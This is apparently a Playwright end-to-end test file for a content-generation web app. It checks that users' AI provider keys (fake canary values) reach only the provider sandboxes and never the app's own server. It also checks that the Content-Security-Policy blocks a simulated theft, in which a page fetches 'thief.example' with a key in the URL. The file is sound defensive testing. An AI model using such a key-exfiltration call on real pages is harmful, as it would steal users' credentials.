import { setTimeout as delay } from 'node:timers/promises';
import type { BrowserContext, Request } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { describePost, generate, openInnerTab, action } from '../steps.ts';

const canary = 'canary-7f3a9';
const keys = {
  openai: `sk-sandbox-fast-${canary}`,
  claude: `sk-ant-sandbox-fast-${canary}`,
  gemini: `AIza-sandbox-fast-${canary}`,
};

const labels = { openai: 'OpenAI', claude: 'Claude', gemini: 'Gemini' };

/** Every request of every page, with the places where it contains the key. */
function watchRequests(context: BrowserContext) {
  const seen: { request: Request; allHeaders: Promise<Record<string, string>> }[] = [];
  context.on('request', (request) => seen.push({ request, allHeaders: request.allHeaders() }));
  return async () => {
    // The full headers of a request that a reload canceled never arrive; those that the page set are known at once.
    const deadline = delay(5_000);
    const all = await Promise.all(
      seen.map(async ({ request, allHeaders }) => {
        const headers = await Promise.race([allHeaders, deadline.then(() => request.headers())]);
        const url = request.url();
        const sent = `${url} ${JSON.stringify(headers)} ${request.postData() ?? ''}`;
        return { url, hasKey: sent.includes(canary) };
      }),
    );
    return {
      all: all.map(({ url }) => url),
      withKey: all.filter(({ hasKey }) => hasKey).map(({ url }) => url),
    };
  };
}

test('in direct mode a key is sent to its provider, and never to our own origin', async ({
  page,
  context,
  premiumUser,
  withKeys,
  server,
}) => {
  await premiumUser(page);
  await page.evaluate(() => localStorage.setItem('aigen_direct', 'true'));
  const requests = watchRequests(context);
  const { sandboxProviders } = (await (await page.request.get('/api/config')).json()) as {
    sandboxProviders: Record<keyof typeof keys, string>;
  };
  const sandbox = new URL(sandboxProviders.openai).origin;
  await page.request.delete(`${sandbox}/journal`);
  const notice = page.getByRole('alert').filter({ hasText: 'Content generation failed: ' });

  for (const provider of ['openai', 'claude', 'gemini'] as const) {
    const label = labels[provider];
    await withKeys(page, { [provider]: keys[provider] });
    await openInnerTab(page, 'Generate Content');
    await describePost(page, 'Cold brew for small cafés', 'cold brew');
    await generate(page);
    await expect(page.getByText('Written by Sandbox')).toBeVisible();
    await expect(action(page, 'Regenerate')).toBeAttached();
    await openInnerTab(page, 'API Keys');
    const panel = page.getByRole('region', { name: label });
    await panel.getByRole('button', { name: 'Check key' }).click();
    await expect(panel.getByText(/accepts this key and offers it/)).toBeVisible();
  }
  for (const [fault, says] of [
    ['invalid', 'API key authentication failed.'],
    ['ratelimit', 'Rate limit exceeded.'],
    ['garbage', 'could not be read'],
  ] as const) {
    await withKeys(page, { claude: `${keys.claude}-${fault}` });
    await openInnerTab(page, 'Generate Content');
    await describePost(page, 'Cold brew');
    await generate(page);
    await expect(notice).toContainText(says);
  }

  const { all, withKey } = await requests();
  expect(all.filter((url) => url.startsWith(`${server.url}/api/generation/grants`))).toHaveLength(12);
  expect(all.filter((url) => url.includes('/api/generate-content-advanced'))).toEqual([]);
  expect(all.filter((url) => url.includes('/api/providers/models'))).toEqual([]);
  expect(withKey.filter((url) => !url.startsWith(`${sandbox}/`))).toEqual([]);
  for (const base of Object.values(sandboxProviders))
    expect(withKey.filter((url) => url.startsWith(`${base}/v1`)).length).toBeGreaterThanOrEqual(2);
  expect(server.log()).not.toContain(canary);
  expect(JSON.stringify(await context.cookies())).not.toContain(canary);

  // Every call to the provider came from the page itself.
  const journal = (await (await page.request.get(`${sandbox}/journal`)).json()) as {
    entries: { origin: string | null }[];
  };
  expect(journal.entries).toHaveLength(9);
  expect(new Set(journal.entries.map(({ origin }) => origin))).toEqual(new Set([server.url]));
});

test('a page can call the providers and its own origin, and no other', async ({ page, context }) => {
  const answer = await page.goto('/login');
  const policy = (await answer!.allHeaders())['content-security-policy']!;
  const [, sources] = /connect-src ([^;]*)/.exec(policy)!;
  expect(sources!.split(' ').slice(0, 4)).toEqual([
    "'self'",
    'https://api.openai.com',
    'https://api.anthropic.com',
    'https://generativelanguage.googleapis.com',
  ]);

  // In a separate page, because the console errors of blocked calls are expected here.
  const thief = await context.newPage();
  await thief.goto('/login');
  const blocked = await thief.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.blockedURI));
    const heard = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve));
    const outcome = await fetch('https://thief.example/?key=sk-1').then(
      () => 'sent',
      () => 'refused',
    );
    await heard;
    return { outcome, violations };
  });
  expect(blocked.outcome).toBe('refused');
  expect(blocked.violations[0]).toContain('https://thief.example');
});
